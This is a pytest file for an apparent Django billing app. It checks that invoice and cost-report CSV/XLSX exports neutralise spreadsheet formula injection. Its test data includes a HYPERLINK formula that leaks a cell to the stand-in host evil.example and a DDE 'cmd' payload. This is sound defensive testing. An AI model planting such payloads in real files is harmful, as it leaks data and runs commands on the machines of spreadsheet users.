"""CSV injection (issue 10): every CSV and XLSX export neutralises text cells that a
spreadsheet would run as a formula; amounts stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from postdesk.billing import services
from postdesk.core.audit import SYSTEM
from postdesk.core.exports import safe_cell
from postdesk.productions.models import Client, Production
from postdesk.scheduling.models import Resource
from tests.billing.test_cost_report import report_data  # noqa: F401 (a fixture)

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


@pytest.mark.parametrize(
    ("given", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+44 20 7946 0000", "'+44 20 7946 0000"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Grading theatre 1", "Grading theatre 1"),
        ("", ""),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (None, None),
    ],
    ids=repr,
)
def test_safe_cell_prefixes_formula_text_and_leaves_numbers(given, expected):
    assert safe_cell(given) == expected


@pytest.fixture
def poisoned_invoice(draft_invoice):
    Client.objects.filter(pk=draft_invoice.client_id).update(name="@Northlight")
    services.add_invoice_line(draft_invoice, actor=SYSTEM, description=HYPERLINK, unit_price="10")
    return services.issue_invoice(
        draft_invoice, actor=SYSTEM, issue_date=datetime.date(2026, 3, 10)
    )


def _rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


@pytest.mark.parametrize("where", ["api", "page"])
def test_the_invoice_export_neutralises_text_and_keeps_amounts(
    where, poisoned_invoice, api_as, page_as
):
    if where == "api":
        response = api_as("accounts").get("invoices/export.csv")
    else:
        response = page_as("accounts").get("/billing/invoices/export.csv")

    header, first, second = _rows(response.content.decode())
    assert header[7] == "description"
    assert first[3] == "'@Northlight"
    assert second[7] == "'" + HYPERLINK
    assert (second[11], second[12], second[13]) == ("10.00", "2.00", "12.00")
    assert first[10] == "20.00"


@pytest.fixture
def poisoned_report(report_data):  # noqa: F811 (the fixture imported above)
    Production.objects.filter(pk=report_data.pk).update(title="=cmd|' /C calc'!A0")
    Resource.objects.filter(name="Ana Colourist").update(name="-Ana Colourist")
    return report_data


@pytest.mark.parametrize("where", ["api", "page"])
def test_the_cost_report_csv_neutralises_text_and_keeps_negative_amounts(
    where, poisoned_report, api_as, page_as
):
    if where == "api":
        response = api_as("accounts").get(
            f"productions/{poisoned_report.pk}/cost-report", format="csv"
        )
    else:
        response = page_as("accounts").get(
            f"/billing/cost-reports/{poisoned_report.pk}/", {"format": "csv"}
        )

    rows = _rows(response.content.decode())
    freelancer = next(r for r in rows if r and "Ana Colourist" in r[0])
    assert freelancer == ["'-Ana Colourist", "Other", "1", "400.00", "GBP", "400.00", "400.00"]
    assert rows[0] == ["'=cmd|' /C calc'!A0 (Northlight Pictures), GBP"]
    variances = [r[7] for r in rows[2:] if len(r) == 9]
    negative = [v for v in variances if v.startswith("-")]
    assert negative, variances  # the crew category is over its (empty) budget
    assert all(Decimal(v) < 0 for v in negative)


@pytest.mark.parametrize("where", ["api", "page"])
def test_the_cost_report_xlsx_neutralises_text_and_keeps_numbers_numeric(
    where, poisoned_report, api_as, page_as
):
    if where == "api":
        response = api_as("accounts").get(
            f"productions/{poisoned_report.pk}/cost-report", format="xlsx"
        )
    else:
        response = page_as("accounts").get(
            f"/billing/cost-reports/{poisoned_report.pk}/", {"format": "xlsx"}
        )

    sheet = load_workbook(io.BytesIO(response.content)).active
    title = sheet["A1"]
    assert title.data_type == "s"
    assert title.value.startswith("'=cmd|")
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = [c.value for c in cells if isinstance(c.value, str) and "Ana Colourist" in c.value]
    assert names == ["'-Ana Colourist"]
    variances = [row[7] for row in sheet.iter_rows(min_row=3, values_only=True) if row[7]]
    assert any(isinstance(v, int | float) and v < 0 for v in variances), variances
